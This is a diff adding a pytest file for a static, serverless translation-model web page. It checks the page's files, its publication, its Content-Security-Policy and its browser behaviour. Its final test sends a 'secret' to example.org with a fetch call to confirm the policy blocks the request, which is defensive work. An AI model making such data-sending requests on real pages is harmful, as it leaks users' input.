@@ -1,0 +1,123 @@
+"""The page that needs no server: its folder, what is published of it, and the whole in a real browser."""
+
+import json
+import re
+from functools import partial
+
+import pytest
+from huggingface_hub import RepoCard
+
+from hub.space import app, static_page
+from hub.space.__main__ import main
+from vanilla_transformer.pipeline_vanilla_transformer import EXTRA_TOKENS
+from vanilla_transformer.shared.loading import load_model, load_tokenizer
+
+NAMES = ["README.md", "index.html", "page.css", "page.js", "page.json"]
+
+
+@pytest.fixture
+def command(run_main):
+    return partial(run_main, main)
+
+
+@pytest.fixture
+def no_graphs(monkeypatch):
+    """Instead of graphs, files of their names: tracing takes seconds."""
+
+    def convert(model, tokenizer, quantization):
+        def write(folder):
+            (folder / "onnx").mkdir()
+            for name in (*static_page.NEEDED, "decoder_model_quantized.onnx"):
+                (folder / "onnx" / name).write_bytes(b"graph")
+            (folder / "config.json").write_text(json.dumps({"quantization": quantization}))
+
+        return write
+
+    monkeypatch.setattr(static_page, "convert", convert)
+
+
+def test_the_limits_are_those_of_the_other_page():
+    assert static_page.LONGEST == app.LONGEST
+    assert EXTRA_TOKENS == app.EXTRA_TOKENS
+
+
+@pytest.mark.parametrize("shared", [True, False])
+def test_the_folder_holds_all_that_a_visitor_needs(save_checkpoint, command, no_graphs, tmp_path, capsys, shared):
+    _, tokenizer, folder = save_checkpoint(shared=shared, position_embedding_type="learned", max_position_embeddings=30)
+    command(folder, "--static", tmp_path / "page")
+    out = tmp_path / "page"
+    assert f"python -m http.server --directory {out}" in capsys.readouterr().out
+    assert sorted(path.name for path in out.iterdir()) == sorted([*NAMES, "model"])
+    assert sorted(path.name for path in (out / "model" / "onnx").iterdir()) == sorted(static_page.NEEDED)
+    page = json.loads((out / "page.json").read_text())
+    sides = ["model"] * 2 if shared else ["model/source_tokenizer", "model/target_tokenizer"]
+    assert [page["source"], page["target"]] == sides
+    assert all((out / side / "tokenizer.json").is_file() for side in sides)
+    assert (page["longest"], page["most"], page["unknown"]) == (30, 29, tokenizer.unk_token_id)
+    assert page["name"] == "ours"  # and not the folder's place on this machine
+    data = RepoCard.load(out / "README.md").data
+    assert (data.sdk, data.app_file, data.title, data.get("models")) == ("static", "index.html", "ours", None)
+    assert all(str(tmp_path).encode() not in path.read_bytes() for path in out.rglob("*") if path.is_file())
+
+    command(folder, "--static", out, status=2)
+    assert "exists already" in capsys.readouterr().err
+
+
+def test_the_page_may_only_fetch_itself_and_the_library(repository):
+    text = (repository / "hub" / "space" / "static" / "index.html").read_text()
+    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', text)
+    rules = {name: sources for name, *sources in map(str.split, policy.split(";"))}
+    library = "https://cdn.jsdelivr.net/npm/"
+    assert rules["default-src"] == ["'none'"]
+    assert rules["connect-src"] == ["'self'", library]
+    assert set(rules["script-src"]) == {"'self'", library, "'wasm-unsafe-eval'"}
+    assert rules["form-action"] == ["'none'"]
+
+
+@pytest.mark.slow
+def test_the_static_space_is_published(start_programs, hub, demo_checkpoint, tmp_path):
+    with start_programs("hub.space.__main__", **hub.environment) as programs:
+        programs.run("hub.space.__main__", demo_checkpoint, "--static", tmp_path / "page", "--push", "user/static")
+    files = hub.repositories["spaces/user/static"].files("main")
+    out = tmp_path / "page"
+    wanted = {path.relative_to(out).as_posix() for path in out.rglob("*") if path.is_file()}
+    assert set(files) == wanted | {"pushed_files.json"}
+    assert RepoCard(files["README.md"].decode()).data.sdk == "static"
+    for name in static_page.NEEDED:
+        assert f"model/onnx/{name}" in files
+
+
+@pytest.mark.slow
+def test_the_static_page_in_a_browser(open_page, demo_checkpoint, demo_sentences, command, tmp_path):
+    """By keyboard alone, on a wide and on a narrow screen: a translation, its attention, and refusals in words."""
+    command(demo_checkpoint, "--static", tmp_path / "page")
+    sentence = demo_sentences[0][0]
+    model, tokenizer = load_model(str(demo_checkpoint)), load_tokenizer(str(demo_checkpoint))
+    batch = tokenizer(sentence, return_tensors="pt")
+    expected = tokenizer.decode(model.generate(**batch, num_beams=1, max_new_tokens=60)[0], skip_special_tokens=True)
+    for width in (1280, 390):
+        page = open_page(tmp_path / "page", width)
+        page.get_by_text("Ready.").wait_for(timeout=120_000)
+        page.keyboard.type(sentence)  # the box has the focus
+        page.keyboard.press("Enter")
+        page.get_by_text(re.compile("^Done in .* greedily")).wait_for()
+        assert page.locator("#translation").inner_text() == expected
+        assert page.locator(".heat thead th").count() == batch["input_ids"].shape[1]
+
+        def weights(page=page) -> list[float]:
+            cells = page.locator(".heat tbody tr").first.locator("td")
+            return [float(title.rsplit(":")[-1]) for title in cells.evaluate_all("each => each.map(c => c.title)")]
+
+        before = weights()
+        assert sum(before) == pytest.approx(1, abs=0.1)
+        page.get_by_label("Layer").select_option("1")
+        assert weights() != before
+        assert page.evaluate("document.documentElement.scrollWidth") <= width
+        page.screenshot(path=tmp_path / f"page{width}.png", full_page=True)
+        for bad, answer in (("", "Type a sentence"), ("собака", "never seen any of these"), ("a " * 300, "takes 200")):
+            page.get_by_label("Sentence").fill(bad)
+            page.get_by_role("button", name="Translate").press("Enter")
+            page.get_by_text(answer).wait_for()
+            assert page.locator("#translation").inner_text() == ""
+    refused = page.evaluate("fetch('https://example.org/?text=secret').then(() => 'sent', () => 'refused')")
+    assert refused == "refused"
